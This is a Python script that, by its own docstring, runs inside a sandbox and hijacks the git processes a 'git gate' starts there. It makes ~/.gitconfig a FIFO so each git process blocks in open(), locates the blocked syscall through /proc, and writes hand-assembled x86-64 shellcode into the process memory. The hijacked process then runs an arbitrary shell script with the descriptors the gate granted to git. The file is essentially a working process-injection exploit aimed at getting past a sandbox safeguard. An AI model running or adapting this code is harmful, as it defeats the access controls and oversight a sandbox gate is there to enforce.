"""Runs in a sandbox: takes over git processes of its own uid that the git gate starts there.

The command owns those processes. Their ~/.gitconfig is a FIFO, so each of them waits in open();
the wanted ones get a few instructions written behind that system call, and become a shell script
with the descriptors that the gate gave to git. x86-64 only.

    imposter.py WORD SCRIPT    processes that have WORD in their command line become SCRIPT
"""

import os
import sys
import time
from contextlib import suppress

HOME = os.environ["HOME"]
FIFO = f"{HOME}/.gitconfig"
OPENAT = "257"
SHELL = b"/bin/sh\0"


def instructions(script: str) -> bytes:
    """execve("/bin/sh", ["/bin/sh", script, NULL], NULL), wherever it is put."""
    data = SHELL + script.encode() + b"\0"
    code = b"\x31\xd2"  # xor edx, edx
    after_code = 2 + 7 + 1 + 7 + 1 + 1 + 3 + 5 + 2
    code += b"\x48\x8d\x3d" + (after_code - 9).to_bytes(4, "little")  # lea rdi, [shell]
    code += b"\x52"  # push rdx
    code += b"\x48\x8d\x05" + (after_code - 17 + len(SHELL)).to_bytes(4, "little")  # lea rax, …
    code += b"\x50\x57"  # push rax; push rdi
    code += b"\x48\x89\xe6"  # mov rsi, rsp
    code += b"\xb8\x3b\x00\x00\x00"  # mov eax, 59
    return code + b"\x0f\x05" + data  # syscall


def waiting_in_open(pid: int) -> int | None:
    """Where the process will go on, if it waits in openat()."""
    with suppress(OSError), open(f"/proc/{pid}/syscall") as file:
        words = file.read().split()
        if words and words[0] == OPENAT:
            return int(words[-1], 16)
    return None


def take_over(pid: int, place: int, script: str) -> None:
    descriptor = os.open(f"/proc/{pid}/mem", os.O_WRONLY)
    os.pwrite(descriptor, instructions(script), place)
    os.close(descriptor)


def release() -> None:
    """Whoever waits for the FIFO reads an empty file."""
    with suppress(OSError):
        os.close(os.open(FIFO, os.O_WRONLY | os.O_NONBLOCK))


def turn(word: str, script: str) -> None:
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        with suppress(OSError):
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                words = file.read().split(b"\0")
            if words[0] != b"git":
                continue
            place = waiting_in_open(pid)
            if place is not None and word.encode() in words:
                take_over(pid, place, script)
            if place is not None:
                release()


def main(word: str, script: str) -> None:
    with suppress(FileExistsError):
        os.mkfifo(FIFO)
    print("ready", flush=True)
    while True:
        turn(word, script)
        time.sleep(0.02)


if __name__ == "__main__":
    main(*sys.argv[1:])
